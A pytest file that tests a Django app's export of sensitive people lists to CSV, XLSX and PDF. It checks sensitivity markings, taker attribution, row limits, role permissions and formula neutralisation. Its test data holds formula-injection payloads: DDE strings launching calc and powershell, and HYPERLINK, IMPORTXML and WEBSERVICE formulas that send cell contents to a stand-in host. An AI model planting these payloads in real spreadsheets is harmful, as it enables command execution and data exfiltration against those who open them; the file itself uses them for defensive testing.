"""Lists that leave as files: nothing in them runs, nothing is hidden, and they say who took them."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import replace

import pytest
import time_machine
from django.test import Client
from lxml import etree
from pypdf import PdfReader

from access.exporting import MOST_ROWS, Column, Form, Taken, TooMany, hand_over, neutral
from accounts.choices import Role
from accounts.models import User
from tests import world
from tests.accounts.signing import sign_in

pytestmark = pytest.mark.django_db
SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
EXPORT = "/people/export/"

_STARTS = [
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "'=",
    '"=',
    "\x00=",
    "\ufeff=",
    "\u200b=",
    "＝",
    "＋",
    "－",
    "＠",
    "|",
    "%",
    "=\t",
]
_BODIES = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example?"&A1,"look")',
    'IMPORTXML(CONCAT("http://x.example/?",A1),"//a")',
    "SUM(1,1)*cmd|'/C powershell'!A0",
    'WEBSERVICE("http://x.example")',
    'DDE("cmd";"/C calc";"x")',
    "A1,=1+1",
    "x\r\n=1+1",
    'x";=1+1',
]
PAYLOADS = [start + body for start in _STARTS for body in _BODIES]
COLUMNS: tuple[Column[str], ...] = (Column("Text", lambda text: text), Column("After", lambda text: "plain"))


@pytest.fixture
def taken() -> Taken:
    return Taken(world.officer(family_name="Taker", collar_number="4417"), world.at(world.TODAY), "request-1")


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def workbook(content: bytes) -> dict[str, etree._Element]:
    """Every part of the file."""
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        return {name: etree.fromstring(parts.read(name)) for name in parts.namelist()}


def xlsx_rows(content: bytes) -> list[list[str]]:
    parts = workbook(content)
    shared = ["".join(entry.itertext()) for entry in parts["xl/sharedStrings.xml"]]
    rows = parts["xl/worksheets/sheet1.xml"].iter(SHEET + "row")
    return [[shared[int(cell.findtext(SHEET + "v"))] for cell in row] for row in rows]


def active(text: str) -> bool:
    """Whether a spreadsheet that meets this as a cell might run it."""
    return text[:1] in set("=+-@|%＝＋－＠\t\r\n") or any(character in text for character in "\x00\r\n\t")


def test_there_are_200_payloads_and_they_would_run() -> None:
    assert len(set(PAYLOADS)) == 200
    assert any(active(payload) for payload in PAYLOADS)


SHEETS = (Form.CSV, Form.XLSX)


@pytest.mark.parametrize("form", SHEETS)
def test_of_200_payloads_none_is_active(form: Form, taken: Taken) -> None:
    content = hand_over(PAYLOADS, COLUMNS, form=form, name="test", taken=taken).content
    rows = csv_rows(content) if form is Form.CSV else xlsx_rows(content)
    assert len(rows) == 202
    assert not [cell for row in rows for cell in row if active(cell)]
    assert all(row[1] == "plain" for row in rows[2:])  # none has broken out of its cell
    if form is Form.CSV:
        lines = content.decode("utf-8-sig").split("\r\n")
        assert len(lines) == 203
        assert all(line.startswith('"') for line in lines[:-1])


@pytest.mark.parametrize(
    "plain", ["MARSH", "O'Neill", "12 Ewe Close", "CU-000001", "naïve – “quoted”", "3-4"]
)
def test_what_is_plain_stays_as_it_is(plain: str) -> None:
    assert neutral(plain) == plain


def test_the_workbook_holds_one_sheet_of_text_and_nothing_else(taken: Taken) -> None:
    parts = workbook(hand_over(PAYLOADS, COLUMNS, form=Form.XLSX, name="test", taken=taken).content)
    assert [name for name in parts if name.startswith("xl/worksheets/")] == ["xl/worksheets/sheet1.xml"]
    for kind in (
        "vba",
        "external",
        "comments",
        "pivot",
        "drawing",
        "connection",
        "embedding",
        "custom",
        "calcChain",
    ):
        assert not [name for name in parts if kind in name]
    sheets = parts["xl/workbook.xml"]
    assert len(sheets.findall(f"{SHEET}sheets/{SHEET}sheet")) == 1
    assert not sheets.xpath("//@state")
    assert sheets.find(SHEET + "definedNames") is None
    page = parts["xl/worksheets/sheet1.xml"]
    assert not page.xpath("//@hidden")
    assert not list(page.iter(SHEET + "f"))
    assert {cell.get("t") for cell in page.iter(SHEET + "c")} == {"s"}
    assert not page.xpath("//*[local-name()='hyperlink']")
    properties = parts["docProps/core.xml"]
    assert (
        "".join(properties.xpath("//*[local-name()='creator' or local-name()='lastModifiedBy']//text()"))
        == ""
    )


@pytest.mark.parametrize("form", SHEETS)
def test_the_first_line_says_how_it_is_marked_and_who_took_it(form: Form, taken: Taken) -> None:
    answer = hand_over(["x"], COLUMNS, form=form, name="people", taken=taken)
    rows = csv_rows(answer.content) if form is Form.CSV else xlsx_rows(answer.content)
    assert rows[0] == [
        "OFFICIAL-SENSITIVE. Taken by Robin Taker, DC 4417 on 15 June 2026 at 09:00. Request request-1"
    ]
    assert rows[1] == ["Text", "After"]
    assert answer["Content-Disposition"] == (
        f'attachment; filename="OFFICIAL-SENSITIVE people 2026-06-15.{form}"'
    )


def test_a_pdf_is_marked_and_says_on_every_page_who_took_it(taken: Taken) -> None:
    rows = [*PAYLOADS, "#strong[x] $x$ `y` \u202e\U0001f600", "x" * 300]
    answer = hand_over(rows, COLUMNS, form=Form.PDF, name="people", taken=taken)
    assert answer["Content-Type"] == "application/pdf"
    assert answer["Content-Disposition"].endswith('people 2026-06-15.pdf"')
    pages = [page.extract_text() for page in PdfReader(io.BytesIO(answer.content)).pages]
    assert len(pages) > 1
    for page in pages:
        assert page.count("OFFICIAL-SENSITIVE") >= 2
        assert "Taken by Robin Taker, DC 4417 on 15 June 2026 at 09:00. Request request-1" in page
    # A long word may break after any letter: a space without width stands there.
    assert "#strong[x]" in "".join(pages).replace("\u200b", "")


def test_the_number_of_a_request_stays_in_one_piece(taken: Taken) -> None:
    """At whatever place of the line it comes to stand."""
    number = "7c300063-d947-4631-9fb9-8dccec67e8e4"
    for length in range(10, 60, 10):
        named = replace(taken, request_id=number, approved_by="x" * length)
        answer = hand_over(["x"], COLUMNS, form=Form.PDF, name="people", taken=named)
        [page] = PdfReader(io.BytesIO(answer.content)).pages
        assert f"Request {number}" in page.extract_text()


def test_a_force_says_how_many_may_leave(taken: Taken) -> None:
    with pytest.raises(TooMany):
        hand_over(["x", "y"], COLUMNS, form=Form.CSV, name="test", taken=taken, most=1)


def test_more_than_may_leave_is_refused_whole(taken: Taken) -> None:
    assert hand_over(["x"] * MOST_ROWS, COLUMNS, form=Form.CSV, name="test", taken=taken).content
    with pytest.raises(TooMany):
        hand_over(["x"] * (MOST_ROWS + 1), COLUMNS, form=Form.CSV, name="test", taken=taken)


class TestPeople:
    @pytest.fixture(autouse=True)
    def wall(self, clock: object) -> Iterator[None]:
        with time_machine.travel(world.at(world.TODAY), tick=False):
            yield

    def take(self, user: User, form: str = "csv", query: str = "") -> list[list[str]]:
        answer = sign_in(user).post(EXPORT + query, {"form": form})
        assert answer.status_code == 200
        return csv_rows(answer.content) if form == "csv" else xlsx_rows(answer.content)

    @pytest.mark.parametrize("form", ["csv", "xlsx"])
    def test_those_of_the_unit_are_in_it_and_no_others(self, form: str) -> None:
        mine = world.person(world.officer(), given_names="=Alan", management_level="high")
        world.person(world.officer(of=world.unit("East unit")), family_name="Elsewhere")
        rows = self.take(world.supervisor(), form)
        assert [row[0] for row in rows[2:]] == [mine.reference]
        assert rows[2][1:4] == ["MARSH", "'=Alan", "4 March 1979"]

    def test_the_lists_own_filters_narrow_it(self) -> None:
        officer = world.officer()
        world.person(officer, family_name="High", management_level="high")
        world.person(officer, family_name="Low", management_level="low")
        rows = self.take(world.supervisor(), query="?level=low")
        assert [row[1] for row in rows[2:]] == ["LOW"]

    @pytest.mark.parametrize("role", [Role.OFFENDER_MANAGER, Role.MAPPA_COORDINATOR, Role.AUDITOR])
    def test_whoever_may_only_look_takes_nothing(self, role: str) -> None:
        client = sign_in(world.user(role))
        assert client.get(EXPORT).status_code == client.post(EXPORT, {"form": "csv"}).status_code == 403
        assert EXPORT not in client.get("/people/").content.decode()

    def test_a_kind_that_does_not_exist_is_asked_again(self) -> None:
        answer = sign_in(world.supervisor()).post(EXPORT, {"form": "exe"})
        assert "There is a problem" in answer.content.decode()

    def test_it_is_not_kept_by_any_cache(self) -> None:
        answer = sign_in(world.supervisor()).post(EXPORT, {"form": "csv"})
        assert "no-store" in answer["Cache-Control"]

    def test_the_list_leads_to_it(self, sign_in: Callable[[User], Client]) -> None:
        client = sign_in(world.supervisor())
        assert f'href="{EXPORT}?level=high"' in client.get("/people/?level=high").content.decode()
